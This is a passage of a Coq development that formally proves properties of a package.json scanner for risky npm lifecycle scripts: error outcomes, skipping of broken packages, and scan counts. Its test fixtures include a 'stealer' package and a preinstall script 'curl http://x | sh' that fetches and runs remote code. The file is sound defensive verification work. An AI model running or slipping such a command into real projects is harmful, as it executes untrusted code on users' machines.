    the system error [EISDIR] exactly on a directory and [EACCES] exactly on
    a file that cannot be read. *)
Theorem single_scan_outcomes fs p :
  ((exists q, scanPackageJson fs p = Throw (NotFound q))
   <-> existsSync fs p = false)
  /\ (scanPackageJson fs p = Throw SyntaxError
      <-> fs p = Some (RegularFile true NotJson))
  /\ ((exists r, scanPackageJson fs p = Ok r)
      <-> exists v, fs p = Some (RegularFile true (Json v))
                    /\ scannable v = true)
  /\ (scanPackageJson fs p = Throw TypeError
      <-> exists v, fs p = Some (RegularFile true (Json v))
                    /\ scannable v = false)
  /\ (scanPackageJson fs p = Throw EISDIR
      <-> exists listing, fs p = Some (Directory listing))
  /\ (scanPackageJson fs p = Throw EACCES
      <-> exists content, fs p = Some (RegularFile false content)).
Proof.
  split; [|split; [|split; [|split; [|split]]]].
  - split.
    + intros (q & H). apply scanPackageJson_throws in H. unfold existsSync.
      destruct (fs p) as [[[|] [v|]|listing]|]; try discriminate H. reflexivity.
    + unfold scanPackageJson. intros ->. now exists p.
  - split.
    + intros H. apply scanPackageJson_throws in H.
      destruct (fs p) as [[[|] [v|]|listing]|]; try discriminate H. reflexivity.
    + intros H. unfold scanPackageJson, existsSync, readFileSync.
      now rewrite H.
  - apply scanPackageJson_returns.
  - split.
    + intros H. pose proof (scanPackageJson_throws fs p TypeError H) as T.
      destruct (fs p) as [[[|] [v|]|listing]|] eqn:F; try discriminate T.
      exists v. split; [reflexivity|].
      destruct (scannable v) eqn:S; [|reflexivity].
      assert (R : exists r, scanPackageJson fs p = Ok r).
      { apply scanPackageJson_returns. now exists v. }
      destruct R as (r & R). rewrite R in H. discriminate H.
    + intros (v & F & S).
      destruct (scanPackageJson fs p) as [r|e] eqn:E.
      * assert (R : exists r, scanPackageJson fs p = Ok r) by now exists r.
        apply scanPackageJson_returns in R. destruct R as (v' & F' & S').
        rewrite F in F'. injection F' as <-. congruence.
      * apply scanPackageJson_throws in E. rewrite F in E. now subst e.
  - split.
    + intros H. apply scanPackageJson_throws in H.
      destruct (fs p) as [[[|] [v|]|listing]|]; try discriminate H.
      now exists listing.
    + intros (listing & F). unfold scanPackageJson, existsSync, readFileSync.
      now rewrite F.
  - split.
    + intros H. apply scanPackageJson_throws in H.
      destruct (fs p) as [[[|] content|listing]|]; try discriminate H.
      * destruct content; discriminate H.
      * now exists content.
    + intros (content & F). unfold scanPackageJson, existsSync, readFileSync.
      now rewrite F.
Qed.

(** ** The tree walk *)

Lemma visited_nil fs w : visited fs [] w = w.
Proof. destruct w. unfold visited. simpl. now rewrite !app_nil_r. Qed.

Lemma visited_app fs a b w :
  visited fs (a ++ b) w = visited fs b (visited fs a w).
Proof.
  unfold visited. cbn [results scanned].
  now rewrite filter_app, flat_map_app, map_app, !app_assoc.
Qed.

Lemma scanIfPresent_visited fs p w : scanIfPresent fs p w = visited fs [p] w.
Proof.
  unfold scanIfPresent, visited, contribution. cbn [filter].
  destruct (existsSync fs p).
  - cbn [flat_map map]. rewrite app_nil_r.
    destruct (scanPackageJson fs p) as [r|e]; cbn [bind try_catch].
    + destruct (worthReporting r); unfold push, log; cbn [results scanned];
        [reflexivity|now rewrite app_nil_r].
    + unfold log. cbn [results scanned]. now rewrite app_nil_r.
  - cbn [flat_map map]. destruct w. cbn [results scanned].
    now rewrite !app_nil_r.
Qed.

Lemma scanScoped_visited fs scopedPath : forall scopedPackages w,
  scanScoped fs scopedPath scopedPackages w
  = visited fs
      (map (fun d => scopedPath ++ [Dirent.name d; "package.json"%string])
           scopedPackages) w.
Proof.
  induction scopedPackages as [|d l IH]; intros w; cbn [scanScoped map].
  - now rewrite visited_nil.
  - rewrite IH, scanIfPresent_visited. unfold path_join.
    now rewrite <- visited_app.
Qed.

Lemma scanPackages_visited fs root : forall packages w w',
  scanPackages fs root packages w = Ok w' ->
  w' = visited fs (flat_map (entryCandidates fs root) packages) w.
Proof.
  induction packages as [|d l IH]; intros w w' H; cbn [scanPackages] in H.
  - injection H as <-. now rewrite visited_nil.
  - cbn [flat_map]. unfold entryCandidates at 1, scopedCandidates.
    unfold path_join in H. rewrite scanIfPresent_visited in H.
    destruct (startsWith (Dirent.name d) "@").
    + destruct (readdirSync fs (root ++ [Dirent.name d])) as [listing|];
        [|discriminate].
      cbn [bind] in H. rewrite scanScoped_visited in H.
      apply IH in H. rewrite H.
      now rewrite <- !visited_app.
    + apply IH in H. rewrite H. now rewrite <- visited_app.
Qed.

Lemma scanPackages_returns fs root : forall packages w,
  (forall d, In d packages -> startsWith (Dirent.name d) "@" = true ->
             exists inner, fs (root ++ [Dirent.name d]) = Some (Directory inner)) ->
  exists w', scanPackages fs root packages w = Ok w'.
Proof.
  induction packages as [|d l IH]; intros w L; cbn [scanPackages].
  - now exists w.
  - assert (L' : forall d', In d' l -> startsWith (Dirent.name d') "@" = true ->
                 exists inner, fs (root ++ [Dirent.name d']) = Some (Directory inner))
      by (intros d' I; apply L; now right).
    destruct (startsWith (Dirent.name d) "@") eqn:S.
    + destruct (L d (or_introl eq_refl) S) as (inner & D).
      unfold path_join, readdirSync. rewrite D. cbn [bind]. now apply IH.
    + now apply IH.
Qed.

(** What the walk returns, when it returns. *)
Lemma walkNodeModules_visited fs root w :
  walkNodeModules fs root = Ok w ->
  w = visited fs (candidatePaths fs root) start.
Proof.
  unfold walkNodeModules, candidatePaths, existsSync, readdirSync.
  destruct (fs root) as [[readable content|listing]|]; cbn [negb bind].
  - discriminate.
  - apply scanPackages_visited.
  - intros [= <-]. now rewrite visited_nil.
Qed.

(** The walk of a listable root returns. *)
Lemma walkNodeModules_returns fs root :
  listable fs root -> exists w, walkNodeModules fs root = Ok w.
Proof.
  intros (listing & D & L).
  unfold walkNodeModules, existsSync, readdirSync. rewrite D. cbn [negb bind].
  apply scanPackages_returns. intros d I S.
  apply filter_In in I. destruct I as [I B].
  apply andb_prop in B. now apply (L d I).
Qed.

Lemma successes_scanned fs ps :
  filter worthReporting
    (successes (map (fun p => (p, scanPackageJson fs p)) ps))
  = flat_map (contribution fs) ps.
Proof.
  induction ps as [|p ps IH]; [reflexivity|].
  cbn [map]. unfold successes in *. cbn [flat_map snd].
  rewrite filter_app, IH. unfold contribution at 2.
  destruct (scanPackageJson fs p) as [r|e]; [|reflexivity].
  cbn [filter]. now destruct (worthReporting r).
Qed.

(** The walk of a listable root: it returns, its log holds the metadata
    files of the tree in order, and its results are their contributions. *)
Lemma walk_log fs root :
  listable fs root ->
  exists w,
    walkNodeModules fs root = Ok w
    /\ map fst (scanned w) = metadataFiles fs root
    /\ results w = flat_map (contribution fs) (metadataFiles fs root).
Proof.
  intros L. destruct (walkNodeModules_returns fs root L) as (w & W).
  pose proof (walkNodeModules_visited fs root w W) as V.
  exists w. split; [exact W|]. rewrite V.
  unfold visited, start, metadataFiles. cbn [scanned results app].
  split; [|reflexivity]. rewrite map_map. cbn [fst]. apply map_id.
Qed.

Lemma mixedTree_listable : listable mixedTree nodeModules.
Proof.
  eexists. split; [reflexivity|]. intros d I D S.
  repeat (destruct I as [<-|I];
          [first [discriminate S | eexists; reflexivity]|]).
  destruct I.
Qed.

Lemma leftPadTree_empty : scanNodeModules leftPadTree nodeModules = Ok [].
Proof. vm_compute. reflexivity. Qed.

Lemma cleanAndRisky_listable : listable cleanAndRisky nodeModules.
Proof.
  eexists. split; [reflexivity|]. intros d I D S.
  repeat (destruct I as [<-|I]; [discriminate S|]).
  destruct I.
Qed.

(** C6: for every root directory, [scanNodeModules] returns, in the order of
    the scan, exactly the results of the scans of the metadata files of the
    tree that returned and for which [overallRisk] is not SAFE or
    [totalMatches] is positive; the calls of [scanPackageJson] the walk makes
    are those on the metadata files of the tree, in order; the tree with
    [.bin] and a [left-pad] without scripts gives the empty list. *)
Theorem returns_what_is_worth_reporting fs root :
  listable fs root ->
  scanNodeModules fs root
  = Ok (filter worthReporting (scannedResults fs root))
  /\ (exists w, walkNodeModules fs root = Ok w
                /\ scanned w = scansOf fs root)
  /\ (forall r, worthReporting r = true
                <-> overallRisk r <> SAFE \/ (totalMatches r > 0)%Z)
  /\ scanNodeModules leftPadTree nodeModules = Ok [].
Proof.
  intros L. destruct (walkNodeModules_returns fs root L) as (w & W).
  pose proof (walkNodeModules_visited fs root w W) as V.
  split; [|split; [|split]].
  - unfold scanNodeModules. rewrite W. cbn [bind]. f_equal.
    rewrite V. unfold visited, start, scannedResults, scansOf, metadataFiles.
    cbn [results app]. now rewrite successes_scanned.
  - exists w. split; [exact W|]. rewrite V. reflexivity.
  - intros r. unfold worthReporting. rewrite orb_true_iff, Z.ltb_lt.
    split; (intros [H|H]; [left|right; lia]);
      destruct (overallRisk r); simpl in *; congruence.
  - exact leftPadTree_empty.
Qed.

Lemma returns_what_is_worth_reporting_witness :
  scanNodeModules cleanAndRisky nodeModules
  = Ok (filter worthReporting (scannedResults cleanAndRisky nodeModules))
  /\ map fst (scansOf cleanAndRisky nodeModules)
     = [["node_modules"; "left-pad"; "package.json"];
        ["node_modules"; "garbled"; "package.json"];
        ["node_modules"; "stealer"; "package.json"]]%string
  /\ map packageName (scannedResults cleanAndRisky nodeModules)
     = [JString (lit "left-pad"); JString (lit "stealer")]
  /\ map packageName
       (filter worthReporting (scannedResults cleanAndRisky nodeModules))
     = [JString (lit "stealer")].
Proof.
  split.
  - exact (proj1 (returns_what_is_worth_reporting cleanAndRisky nodeModules
                    cleanAndRisky_listable)).
  - repeat split; vm_compute; reflexivity.
Defined.

(** C7: the walk of a root directory never throws because a package cannot
    be scanned: it returns, every metadata file of the tree is scanned in
    order whatever happened to the ones before it, and a file whose scan
    throws contributes nothing to the list returned. *)
Theorem bad_package_is_skipped fs root :
  listable fs root ->
  (exists w, walkNodeModules fs root = Ok w
             /\ map fst (scanned w) = metadataFiles fs root)
  /\ scanNodeModules fs root
     = Ok (flat_map (contribution fs) (metadataFiles fs root))
  /\ (forall p e, scanPackageJson fs p = Throw e -> contribution fs p = []).
Proof.
  intros L. destruct (walk_log fs root L) as (w & W & F & R).
  split; [|split].
  - now exists w.
  - unfold scanNodeModules. rewrite W. cbn [bind]. now rewrite R.
  - intros p e E. unfold contribution. now rewrite E.
Qed.

Lemma bad_package_is_skipped_witness :
  scanPackageJson mixedTree brokenPath = Throw TypeError
  /\ List.length (metadataFiles mixedTree nodeModules) = 5
  /\ scanNodeModules mixedTree nodeModules
     = Ok (flat_map (contribution mixedTree)
             (metadataFiles mixedTree nodeModules))
  /\ (exists a b, flat_map (contribution mixedTree)
                    (metadataFiles mixedTree nodeModules) = [a; b]).
Proof.
  split; [vm_compute; reflexivity|].
  split; [vm_compute; reflexivity|].
  split.
  - exact (proj1 (proj2 (bad_package_is_skipped mixedTree nodeModules
                           mixedTree_listable))).
  - eexists. eexists. vm_compute. reflexivity.
Defined.

Lemma contribution_filtered fs p : forall ps,
  contribution fs p = [] ->
  flat_map (contribution fs) ps
  = flat_map (contribution fs) (filter (fun q => negb (path_eqb q p)) ps).
Proof.
  intros ps C. induction ps as [|q ps IH]; [reflexivity|].
  cbn [flat_map filter]. unfold path_eqb at 1.
  destruct (list_eq_dec string_dec q p) as [->|N]; cbn [negb].
  - now rewrite C.
  - cbn [flat_map]. now rewrite IH.
Qed.

(** C10: when the [scripts] object of a metadata file binds a lifecycle key
    to a truthy value that is not a string, [scanPackageJson] throws (a
    [TypeError], from the call of [match] on that value); in a tree scan the
    file adds nothing to the results, which are those of the tree without
    it. *)
Theorem non_string_script_is_skipped fs p props entries key v :
  fs p = Some (RegularFile true (Json (JObject props))) ->
  own_property props "scripts" = Some (JObject entries) ->
  In key dangerousScripts ->
  own_property entries key = Some v ->
  truthyNonString v = true ->
  scanPackageJson fs p = Throw TypeError
  /\ (forall w, results (scanIfPresent fs p w) = results w)
  /\ (forall root, listable fs root ->
        scanNodeModules fs root
        = Ok (flat_map (contribution fs)
                (filter (fun q => negb (path_eqb q p))
                        (metadataFiles fs root)))).
Proof.
  intros F S K B T.
  assert (E : scanPackageJson fs p = Throw TypeError).
  { unfold scanPackageJson, existsSync, readFileSync. rewrite F.
    cbn [negb bind JSON_parse get]. rewrite S. cbn [truthy bind].
    now rewrite (scanScripts_nonString entries key v dangerousScripts _ K B T). }
  assert (C : contribution fs p = []) by (unfold contribution; now rewrite E).
  split; [exact E|]. split.
  - intros w. rewrite scanIfPresent_visited. unfold visited. cbn [results filter].
    destruct (existsSync fs p); cbn [flat_map].
    + now rewrite C, app_nil_r.
    + now rewrite app_nil_r.
  - intros root L. destruct (walk_log fs root L) as (w & W & _ & R).
    unfold scanNodeModules. rewrite W. cbn [bind]. rewrite R.
    now rewrite <- contribution_filtered.
Qed.

Lemma non_string_script_is_skipped_witness :
  scanPackageJson mixedTree brokenPath = Throw TypeError
  /\ (forall w, results (scanIfPresent mixedTree brokenPath w) = results w).
Proof.
  assert (H := non_string_script_is_skipped mixedTree brokenPath
                 [("name"%string, JString (lit "broken"));
                  ("version"%string, JString (lit "1.0.0"));
                  ("scripts"%string,
                    JObject
                      [("preinstall"%string, JString (lit "curl http://x | sh"));
                       ("install"%string,
                         JArray [JString (lit "node"); JString (lit "a.js")])])]
                 [("preinstall"%string, JString (lit "curl http://x | sh"));
                  ("install"%string,
                    JArray [JString (lit "node"); JString (lit "a.js")])]
                 "install"%string
                 (JArray [JString (lit "node"); JString (lit "a.js")])
                 eq_refl eq_refl
                 (or_intror (or_introl eq_refl)) eq_refl eq_refl).
  destruct H as (E & S & _). split; assumption.
Defined.

(** C8, as the specification words it, fails: a scope directory that holds
    a metadata file of its own next to its one scoped package makes two
    calls of [scanPackageJson], where N + M is 0 + 1. *)
Lemma scan_count_counterexample : ~ scanCountAsStated scopeWithMetadata nodeModules.
Proof.
  intros H.
  destruct (walkNodeModules scopeWithMetadata nodeModules) as [w|e] eqn:E;
    [|vm_compute in E; discriminate E].
  specialize (H [dir "@acme"] w eq_refl).
  assert (P : forall d, In d (scopeDirectories [dir "@acme"]) ->
                List.length (scopedPackagesOf scopeWithMetadata nodeModules d) = 1).
  { intros d [<-|[]]. vm_compute. reflexivity. }
  specialize (H P E).
  vm_compute in E. injection E as <-. vm_compute in H. discriminate H.
Qed.

Lemma at_not_dot name : startsWith name "@" = true -> startsWith name "." = false.
Proof.
  destruct name as [|a rest]; [discriminate|]. simpl.
  destruct (Ascii.eqb_spec a "@"); [subst; reflexivity|discriminate].
Qed.

(** A listed scope whose packages are counted can be listed. *)
Lemma counted_scope_is_directory fs root d :
  List.length (scopedPackagesOf fs root d) = 1 ->
  exists inner, fs (root ++ [Dirent.name d]) = Some (Directory inner).
Proof.
  unfold scopedPackagesOf, scopedCandidates, readdirSync.
  destruct (fs (root ++ [Dirent.name d])) as [[readable content|inner]|];
    try discriminate.
  intros _. now exists inner.
Qed.

(** The number of metadata files below the directories the walk visits. *)
Lemma metadata_count fs root : forall listing,
  (forall d, In d (scopeDirectories listing) ->
     existsSync fs (root ++ [Dirent.name d; "package.json"%string]) = false
     /\ List.length (scopedPackagesOf fs root d) = 1) ->
  List.length
    (filter (existsSync fs)
       (flat_map (entryCandidates fs root)
          (filter (fun d => Dirent.isDirectory d
                            && negb (startsWith (Dirent.name d) "."))
                  listing)))
  = List.length (unscopedPackages fs root listing)
    + List.length (scopeDirectories listing).
Proof.
  induction listing as [|d l IH]; intros P; [reflexivity|].
  assert (P' : forall d', In d' (scopeDirectories l) ->
     existsSync fs (root ++ [Dirent.name d'; "package.json"%string]) = false
     /\ List.length (scopedPackagesOf fs root d') = 1).
  { intros d' I. apply P. unfold scopeDirectories in *. cbn [filter].
    destruct (Dirent.isDirectory d && startsWith (Dirent.name d) "@");
      [now right|assumption]. }
  specialize (IH P'). unfold unscopedPackages, scopeDirectories in *.
  cbn [filter].
  destruct (Dirent.isDirectory d) eqn:D; cbn [andb]; [|exact IH].
  destruct (startsWith (Dirent.name d) "@") eqn:S.
  - rewrite (at_not_dot _ S). cbn [negb andb flat_map].
    rewrite filter_app, length_app, IH. unfold entryCandidates. rewrite S.
    destruct (P d) as [X C].
    { cbn [filter]. rewrite D, S. now left. }
    cbn [filter]. rewrite X. unfold scopedPackagesOf in C. rewrite C.
    cbn [List.length]. lia.
  - destruct (startsWith (Dirent.name d) ".") eqn:T; cbn [negb andb];
      [exact IH|].
    cbn [flat_map]. rewrite filter_app, length_app, IH.
    unfold entryCandidates. rewrite S. cbn [filter].
    destruct (existsSync fs (root ++ [Dirent.name d; "package.json"%string]));
      cbn [List.length]; lia.
Qed.

(** Where the candidate paths lie. *)
Lemma candidate_shape fs root listing p :
  fs root = Some (Directory listing) ->
  In p (candidatePaths fs root) ->
  exists d,
    In d listing /\ Dirent.isDirectory d = true
    /\ startsWith (Dirent.name d) "." = false
    /\ (p = root ++ [Dirent.name d; "package.json"%string]
        \/ (startsWith (Dirent.name d) "@" = true
            /\ exists e, p = root ++ [Dirent.name d; e; "package.json"%string])).
Proof.
  intros R. unfold candidatePaths, readdirSync. rewrite R.
  intros I. apply in_flat_map in I. destruct I as (d & I & C).
  apply filter_In in I. destruct I as (I & B).
  apply andb_prop in B. destruct B as (D & T).
  apply negb_true_iff in T.
  exists d. repeat split; try assumption.
  destruct C as [<-|C]; [now left|right].
  destruct (startsWith (Dirent.name d) "@"); [|destruct C].
  split; [reflexivity|].
  unfold scopedCandidates in C.
  destruct (readdirSync fs (root ++ [Dirent.name d])); [|destruct C].
  apply in_map_iff in C. destruct C as (e & <- & _).
  exists (Dirent.name e). now rewrite <- app_assoc.
Qed.

(** C8 (amended): for a root directory with N unscoped package directories
    that hold a metadata file and M scope directories that hold no metadata
    file of their own and one scoped package with a metadata file each, the
    walk calls [scanPackageJson] exactly N + M times; every file it scans is
    the [package.json] of a directory of the root that is not dot-prefixed,
    or of a directory one level below a scope directory of the root, and
    nothing deeper. *)
Theorem scans_N_plus_M fs root listing :
  fs root = Some (Directory listing) ->
  (forall d, In d (scopeDirectories listing) ->
     existsSync fs (root ++ [Dirent.name d; "package.json"%string]) = false
     /\ List.length (scopedPackagesOf fs root d) = 1) ->
  exists w,
    walkNodeModules fs root = Ok w
    /\ List.length (scanned w)
       = List.length (unscopedPackages fs root listing)
         + List.length (scopeDirectories listing)
    /\ forall p, In p (map fst (scanned w)) ->
         exists d,
           In d listing /\ Dirent.isDirectory d = true
           /\ startsWith (Dirent.name d) "." = false
           /\ (p = root ++ [Dirent.name d; "package.json"%string]
               \/ (startsWith (Dirent.name d) "@" = true
                   /\ exists e,
                        p = root ++ [Dirent.name d; e; "package.json"%string])).
Proof.
  intros R P.
  assert (L : listable fs root).
  { exists listing. split; [exact R|]. intros d I D S.
    apply (counted_scope_is_directory fs root d). apply P.
    unfold scopeDirectories. apply filter_In. split; [exact I|].
    now rewrite D, S. }
  destruct (walk_log fs root L) as (w & W & F & _).
  exists w. split; [exact W|]. split.
  - rewrite <- (length_map fst), F. unfold metadataFiles, candidatePaths, readdirSync.
    rewrite R. now apply metadata_count.
  - intros p I. rewrite F in I. unfold metadataFiles in I.
    apply filter_In in I. now apply (candidate_shape fs root listing p R).
Qed.

Lemma scans_N_plus_M_witness :
  exists w,
    walkNodeModules mixedTree nodeModules = Ok w
    /\ List.length (scanned w) = 4 + 1.
Proof.
  assert (P : forall d, In d (scopeDirectories mixedListing) ->
     existsSync mixedTree (nodeModules ++ [Dirent.name d; "package.json"%string])
     = false
     /\ List.length (scopedPackagesOf mixedTree nodeModules d) = 1).
  { intros d I. vm_compute in I. destruct I as [<-|[]].
    split; vm_compute; reflexivity. }
  destruct (scans_N_plus_M mixedTree nodeModules mixedListing eq_refl P)
    as (w & W & C & _).
  exists w. split; [exact W|]. rewrite C. vm_compute. reflexivity.
Defined.

(** A dot-prefixed directory below a scope is scanned like any other. *)
Lemma scoped_dot_directory_is_scanned :
  exists r,
    scanNodeModules scopedDotTree nodeModules = Ok [r]
    /\ packageName r = JString (lit "hidden").
Proof. eexists. split; vm_compute; reflexivity. Qed.

(** Listing a scope is outside the [try] block: when it throws, the walk
    throws. *)
Lemma vanished_scope_aborts :
  scanNodeModules vanishedScope nodeModules = Throw ENOENT.
Proof. vm_compute. reflexivity. Qed.

(** * Further properties *)

(** ** What a scan of one file records *)

Lemma get_lifecycleEntry v key :
  truthy (field v "scripts") = true ->
  get (field v "scripts") key = Ok (lifecycleEntry v key).
Proof.
  unfold field, lifecycleEntry. destruct v as [| | | | |props]; try discriminate.
  destruct (own_property props "scripts") as [[| | | | |entries]|];
    try discriminate; reflexivity.
Qed.

(** The loop appends, for each key in turn, the analysis of its entry. *)
Lemma scanScripts_scripts sc (entry : string -> value) :
  (forall key, get sc key = Ok (entry key)) ->
  forall names results results',
  scanScripts sc names results = Ok results' ->
  NoDup names ->
  (forall k, In k names -> ~ In k (map fst (scripts results))) ->
  scripts results'
  = scripts results
    ++ flat_map (fun key =>
                   match entry key with
                   | Some (JString (c :: s)) => [(key, analyzeString key (c :: s))]
                   | _ => []
                   end) names
  /\ packageName results' = packageName results
  /\ version results' = version results.
Proof.
  intros G. induction names as [|name names IH]; intros results results' H ND F;
    cbn [scanScripts] in H.
  - injection H as <-. cbn [flat_map]. now rewrite app_nil_r.
  - inversion ND as [|? ? Hn ND']; subst.
    assert (F' : forall k, In k names -> ~ In k (map fst (scripts results)))
      by (intros k Hk; apply F; now right).
    rewrite G in H. cbn [bind flat_map] in H |- *.
    destruct (entry name) as [[| | | | |]|] eqn:E; cbn [truthy] in H;
      try (apply (IH _ _ H ND' F')).
    + destruct b; [discriminate H|apply (IH _ _ H ND' F')].
    + destruct (negb (PrimFloat.is_zero x || PrimFloat.is_nan x));
        [discriminate H|apply (IH _ _ H ND' F')].
    + destruct s as [|c s]; [apply (IH _ _ H ND' F')|].
      cbn [analyzeScript bind] in H. apply IH in H; [|exact ND'|].
      * cbn [record_script scripts packageName version] in H.
        rewrite set_property_fresh in H by (apply F; now left).
        destruct H as (H & N & V). rewrite H, <- app_assoc. now repeat split.
      * intros k Hk. cbn [record_script scripts].
        rewrite set_property_fresh by (apply F; now left).
        rewrite map_app, in_app_iff. intros [I|[<-|[]]];
          [now apply (F' k)|now apply Hn].
    + discriminate H.
    + discriminate H.
Qed.

Lemma get_field v key : v <> JNull -> get (Some v) key = Ok (field v key).
Proof. intros N. destruct v; try reflexivity. now contradiction N. Qed.

(** The scan of a readable file that holds a JSON document other than
    [null]. *)
Lemma scanPackageJson_document fs p v :
  fs p = Some (RegularFile true (Json v)) -> v <> JNull ->
  scanPackageJson fs p
  = (results <-
       (if truthy (field v "scripts")
        then scanScripts (field v "scripts") dangerousScripts (initialResults v)
        else Ok (initialResults v)) ;;
     Ok (set_findings
           (set_overallRisk results (calculateOverallRisk results))
           (generateFindings
              (set_overallRisk results (calculateOverallRisk results))))).
Proof.
  intros F N. unfold scanPackageJson, existsSync, readFileSync. rewrite F.
  cbn [negb bind JSON_parse]. rewrite !(get_field v _ N). reflexivity.
Qed.

Lemma scanPackageJson_null fs p :
  fs p = Some (RegularFile true (Json JNull)) ->
  scanPackageJson fs p = Throw TypeError.
Proof.
  intros F. unfold scanPackageJson, existsSync, readFileSync. now rewrite F.
Qed.

Lemma lifecycleEntry_falsy_scripts v key :
  truthy (field v "scripts") = false -> lifecycleEntry v key = None.
Proof.
  unfold field, lifecycleEntry. destruct v as [| | | | |props]; try reflexivity.
  destruct (own_property props "scripts") as [[| | | | |entries]|];
    try reflexivity. discriminate.
Qed.

Lemma generateFindings_map results :
  generateFindings results = map findingOf (scripts results).
Proof.
  unfold generateFindings. apply map_ext. now intros [name a].
Qed.

(** The scripts of a result. *)
Lemma scripts_of_result fs p v r :
  fs p = Some (RegularFile true (Json v)) ->
  scanPackageJson fs p = Ok r ->
  scripts r = lifecycleAnalyses v.
Proof.
  intros F H.
  assert (N : v <> JNull).
  { intros ->. rewrite (scanPackageJson_null fs p F) in H. discriminate H. }
  rewrite (scanPackageJson_document fs p v F N) in H.
  match type of H with
  | bind ?c _ = _ => destruct c as [res|e] eqn:E; [|discriminate H]
  end.
  cbn [bind] in H. injection H as <-.
  cbn [set_findings set_overallRisk scripts].
  unfold lifecycleAnalyses, analysisOf.
  destruct (truthy (field v "scripts")) eqn:T.
  - apply (scanScripts_scripts (field v "scripts") (lifecycleEntry v)
             (fun key => get_lifecycleEntry v key T)) in E.
    + now destruct E as (E & _).
    + exact dangerousScripts_NoDup.
    + intros k _ [].
  - injection E as <-. cbn [initialResults scripts].
    induction dangerousScripts as [|k ks IH]; [reflexivity|].
    cbn [flat_map]. now rewrite (lifecycleEntry_falsy_scripts v k T).
Qed.

(** X1: the result of a single-file scan records, in the order of the six
    lifecycle keys, exactly the keys the metadata binds to a non-empty
    string, each with the analysis of that string; [findings] holds one
    finding per recorded script, in the same order, with the tier, notes and
    matches of its analysis. *)
Theorem scan_records_lifecycle_scripts fs p v r :
  fs p = Some (RegularFile true (Json v)) ->
  scanPackageJson fs p = Ok r ->
  scripts r = lifecycleAnalyses v
  /\ findings r = map findingOf (lifecycleAnalyses v).
Proof.
  intros F H.
  pose proof (scripts_of_result fs p v r F H) as S.
  split; [exact S|].
  apply scanPackageJson_result in H. destruct H as (_ & _ & G).
  now rewrite G, generateFindings_map, S.
Qed.

Lemma scan_records_lifecycle_scripts_witness :
  match scanPackageJson mixedTree stealerPath with
  | Ok r =>
      map fst (scripts r) = ["preinstall"; "postinstall"]%string
      /\ map script (findings r) = ["preinstall"; "postinstall"]%string
  | Throw _ => False
  end.
Proof.
  destruct (scanPackageJson mixedTree stealerPath) as [r|e] eqn:E.
  - destruct (scan_records_lifecycle_scripts mixedTree stealerPath _ r
                eq_refl E) as (S & F).
    rewrite S, F. split; vm_compute; reflexivity.
  - vm_compute in E. discriminate E.
Defined.

(** X2: the name and the version of a result are the metadata's [name] and
    [version] when these are truthy and the string 'unknown' otherwise, so
    neither is ever falsy. *)
Theorem name_and_version_default fs p v r :
  fs p = Some (RegularFile true (Json v)) ->
  scanPackageJson fs p = Ok r ->
  (if truthy (field v "name") then Some (packageName r) = field v "name"
   else packageName r = JString (lit "unknown"))
  /\ (if truthy (field v "version") then Some (version r) = field v "version"
      else version r = JString (lit "unknown"))
  /\ truthy (Some (packageName r)) = true
  /\ truthy (Some (version r)) = true.
Proof.
  intros F H.
  assert (N : v <> JNull).
  { intros ->. rewrite (scanPackageJson_null fs p F) in H. discriminate H. }
  rewrite (scanPackageJson_document fs p v F N) in H.
  match type of H with
  | bind ?c _ = _ => destruct c as [res|e] eqn:E; [|discriminate H]
  end.
  cbn [bind] in H. injection H as <-.
  cbn [set_findings set_overallRisk packageName version].
  assert (P : packageName res = or_else (field v "name") "unknown"
              /\ version res = or_else (field v "version") "unknown").
  { destruct (truthy (field v "scripts")) eqn:T.
    - apply (scanScripts_scripts (field v "scripts") (lifecycleEntry v)
               (fun key => get_lifecycleEntry v key T)) in E.
      + destruct E as (_ & -> & ->). now split.
      + exact dangerousScripts_NoDup.
      + intros k _ [].
    - injection E as <-. now split. }
  destruct P as [-> ->]. unfold or_else.
  destruct (field v "name") as [n|] eqn:En;
    destruct (field v "version") as [w|] eqn:Ew;
    try destruct (truthy (Some n)) eqn:Tn;
    try destruct (truthy (Some w)) eqn:Tw;
    cbn [truthy]; repeat split; assumption.
Qed.

Lemma name_and_version_default_witness :
  match scanPackageJson leftPadTree leftPadPath with
  | Ok r =>
      packageName r = JString (lit "left-pad")
      /\ truthy (Some (version r)) = true
  | Throw _ => False
  end.
Proof.
  destruct (scanPackageJson leftPadTree leftPadPath) as [r|e] eqn:E.
  - destruct (name_and_version_default leftPadTree leftPadPath _ r eq_refl E)
      as (N & _ & _ & V).
    split; [|exact V]. cbn in N. now injection N as ->.
  - vm_compute in E. discriminate E.
Defined.

Lemma analysisOf_falsy v key :
  truthy (lifecycleEntry v key) = false -> analysisOf v key = [].
Proof.
  unfold analysisOf. destruct (lifecycleEntry v key) as [[| | |[|c s]| |]|];
    try reflexivity. discriminate.
Qed.

Lemma scannable_without_lifecycle v :
  v <> JNull ->
  (forall key, In key dangerousScripts -> truthy (lifecycleEntry v key) = false) ->
  scannable v = true.
Proof.
  intros N A. destruct v as [| | | | |props]; try reflexivity;
    [now contradiction N|].
  cbn [scannable]. unfold lifecycleEntry in A.
  destruct (own_property props "scripts") as [[| | | | |entries]|];
    try (now rewrite orb_true_r).
  rewrite orb_true_r || (cbn [truthy negb orb]).
  apply forallb_forall. intros key I. specialize (A key I).
  unfold stringOrFalsy. rewrite A. now destruct (own_property entries key) as [[]|].
Qed.

(** X3: a metadata document without any truthy lifecycle entry (no
    [scripts], an empty one, or one with other keys only, such as [prepare]
    or [test]) is scanned to a result with no script, tier SAFE, no match
    and no finding, whatever its other scripts contain. *)
Theorem no_lifecycle_script_is_safe fs p v :
  fs p = Some (RegularFile true (Json v)) ->
  v <> JNull ->
  (forall key, In key dangerousScripts -> truthy (lifecycleEntry v key) = false) ->
  exists r,
    scanPackageJson fs p = Ok r
    /\ scripts r = [] /\ overallRisk r = SAFE
    /\ totalMatches r = 0%Z /\ findings r = [].
Proof.
  intros F N A.
  assert (R : exists r, scanPackageJson fs p = Ok r).
  { apply scanPackageJson_returns. exists v. split; [exact F|].
    now apply scannable_without_lifecycle. }
  destruct R as (r & H). exists r. split; [exact H|].
  assert (S : scripts r = []).
  { rewrite (scripts_of_result fs p v r F H). unfold lifecycleAnalyses.
    induction dangerousScripts as [|k ks IH]; [reflexivity|].
    cbn [flat_map]. rewrite (analysisOf_falsy v k) by (apply A; now left).
    apply IH. intros key I. apply A. now right. }
  apply scanPackageJson_result in H. destruct H as ((T & _) & O & G).
  rewrite O, T, G, generateFindings_map. unfold calculateOverallRisk.
  rewrite S. repeat split.
Qed.

Lemma no_lifecycle_script_is_safe_witness :
  exists r,
